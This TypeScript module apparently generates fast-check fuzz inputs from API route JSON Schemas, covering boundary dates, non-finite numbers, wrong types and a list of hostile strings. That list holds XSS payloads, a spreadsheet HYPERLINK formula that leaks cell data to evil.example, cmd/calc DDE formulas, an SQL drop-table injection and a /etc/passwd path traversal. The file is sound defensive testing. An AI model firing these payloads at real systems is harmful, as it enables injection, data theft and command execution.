// fast-check arbitraries made from a route's JSON Schemas, biased to the boundaries that broke
// routes before: dates far outside 1990–2100 and impossible days, huge and non-finite numbers
// (1e400 and 400-digit integers, which JSON and query strings turn into Infinity), long and
// hostile unicode, markup and spreadsheet formulas, and values of the wrong type.
import fc from 'fast-check'

/** A token written into the request as it is (JSON cannot hold Infinity; a query string can hold anything). */
export interface Raw { raw: string }
const raw = (text: string): Raw => ({ raw: text })
export const isRaw = (value: unknown): value is Raw => typeof value === 'object' && value !== null && 'raw' in value && Object.keys(value).length === 1

export const HOSTILE_STRINGS = [
  '', ' ', '\u0000', 'a\u0000b', '\ud800', '\udfff\ud800', '\u202eevil', '\uFEFF', '𝕏'.repeat(3000),
  '<a href="https://evil.example/login">log in again</a>', '<img src=x onerror=alert(1)>', '<script>alert(1)</script>',
  '=HYPERLINK("https://evil.example/?leak="&A1,"Details")', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0',
  "'; drop table premises; --", '../../../etc/passwd', '%00%ff', '{{7*7}}${7*7}', 'null', 'undefined', 'NaN', '-0'
]
const DATES = ['0001-01-01', '9999-12-31', '9999-12-01', '1989-12-31', '2101-01-01', '1990-01-01', '2100-12-31', '2024-02-30', '2024-13-01', '2024-00-10', '+275760-09-13', '1900-01-01', '2024-02-29']
const DATE_TIMES = ['0001-01-01T00:00:00Z', '9999-12-31T23:59:59Z', '2100-12-31T23:59:59-14:00', '1990-01-01T00:00:00+14:00', '2024-12-06T25:61:00Z', '2024-12-06T23:15:00Z']
const NUMBERS = [0, -0, 1, -1, 0.5, 2147483647, 2147483648, -2147483649, Number.MAX_SAFE_INTEGER, 1e308, -1e308, 5e-324]
const NON_FINITE = [raw('1e400'), raw('-1e400'), raw('-1' + '0'.repeat(400)), raw('1' + '0'.repeat(400) + '.5')]
const WRONG_TYPES: unknown[] = [null, 12345, 'abc', [], {}, true, [null], { nested: { deep: [1, 2] } }]

interface Schema {
  type?: string | string[]; enum?: unknown[]; anyOf?: Schema[]; oneOf?: Schema[]; format?: string; pattern?: string
  maxLength?: number; minimum?: number; maximum?: number; items?: Schema; maxItems?: number
  properties?: Record<string, Schema>; required?: string[]
}

const looksLikeDate = (s: Schema) => s.format === 'date' || s.format === 'date-time' || /\(199|\\d\{4\}/.test(s.pattern ?? '')

function stringArbitrary (schema: Schema): fc.Arbitrary<unknown> {
  const choices: fc.Arbitrary<unknown>[] = [fc.constantFrom(...HOSTILE_STRINGS), fc.string({ unit: 'binary', maxLength: 200 })]
  if (looksLikeDate(schema)) choices.push(fc.constantFrom(...DATES, ...DATE_TIMES), fc.constantFrom(...DATES))
  if (schema.maxLength !== undefined) choices.push(fc.constantFrom('x'.repeat(schema.maxLength), 'é'.repeat(schema.maxLength + 1)))
  return fc.oneof(...choices)
}

function numberArbitrary (schema: Schema): fc.Arbitrary<unknown> {
  const edges = [schema.minimum, schema.maximum].filter((n): n is number => n !== undefined).flatMap(n => [n, n - 1, n + 1, n + 0.5])
  return fc.oneof(fc.constantFrom(...NUMBERS, ...edges), fc.constantFrom(...NON_FINITE), fc.double({ noNaN: true, noDefaultInfinity: true }), fc.integer())
}

/** Values for a schema: mostly of its type (at its edges), sometimes of the wrong type. */
export function valueFor (schema: Schema | undefined, depth = 0): fc.Arbitrary<unknown> {
  const wrong = fc.constantFrom(...WRONG_TYPES, ...NON_FINITE)
  if (!schema || depth > 4) return fc.oneof(wrong, fc.constantFrom(...HOSTILE_STRINGS))
  if (schema.enum?.length) return fc.oneof({ weight: 3, arbitrary: fc.constantFrom(...schema.enum) }, { weight: 1, arbitrary: fc.oneof(wrong, fc.constantFrom(...HOSTILE_STRINGS)) })
  const branches = schema.anyOf ?? schema.oneOf
  if (branches?.length) return fc.oneof(...branches.map(b => valueFor(b, depth + 1)))
  const types = Array.isArray(schema.type) ? schema.type : schema.type ? [schema.type] : ['string', 'number', 'object']
  const typed = types.map(type => {
    switch (type) {
      case 'string': return stringArbitrary(schema)
      case 'integer': case 'number': return numberArbitrary(schema)
      case 'boolean': return fc.boolean()
      case 'null': return fc.constant(null)
      case 'array': return fc.oneof(fc.array(valueFor(schema.items, depth + 1), { maxLength: 4 }), fc.constant(Array.from({ length: (schema.maxItems ?? 50) + 1 }, () => 'x')))
      default: return objectFor(schema, depth + 1)
    }
  })
  return fc.oneof({ weight: 5, arbitrary: fc.oneof(...typed) }, { weight: 1, arbitrary: wrong })
}

/** An object for an object schema: required fields mostly present, optional ones sometimes, now and then an unknown one. */
export function objectFor (schema: Schema | undefined, depth = 0): fc.Arbitrary<Record<string, unknown>> {
  const properties = schema?.properties ?? {}
  const model = Object.fromEntries(Object.entries(properties).map(([name, s]) => [name, valueFor(s, depth + 1)]))
  return fc.tuple(fc.record(model, { requiredKeys: [] }), fc.option(fc.constantFrom(...HOSTILE_STRINGS.slice(0, 5), 'unknownField'), { freq: 6 }))
    .map(([object, extra]) => extra === null ? object : { ...object, [extra || 'unknownField']: 'x' })
}

/** JSON text with Raw tokens written as they are (so 1e400 reaches the parser). */
export function toJson (value: unknown): string {
  const tokens: string[] = []
  const text = JSON.stringify(value, (_key, v) => isRaw(v) ? `\u0001${tokens.push(v.raw) - 1}\u0001` : v) ?? 'null'
  return text.replace(/"\\u0001(\d+)\\u0001"/g, (_m, i: string) => tokens[Number(i)]!)
}

/** A query-string or path value as text. */
export function toParam (value: unknown): string {
  if (isRaw(value)) return value.raw
  if (Array.isArray(value)) return value.map(toParam).join(',')
  if (value !== null && typeof value === 'object') return JSON.stringify(value)
  return value === null || value === undefined ? '' : String(value)
}
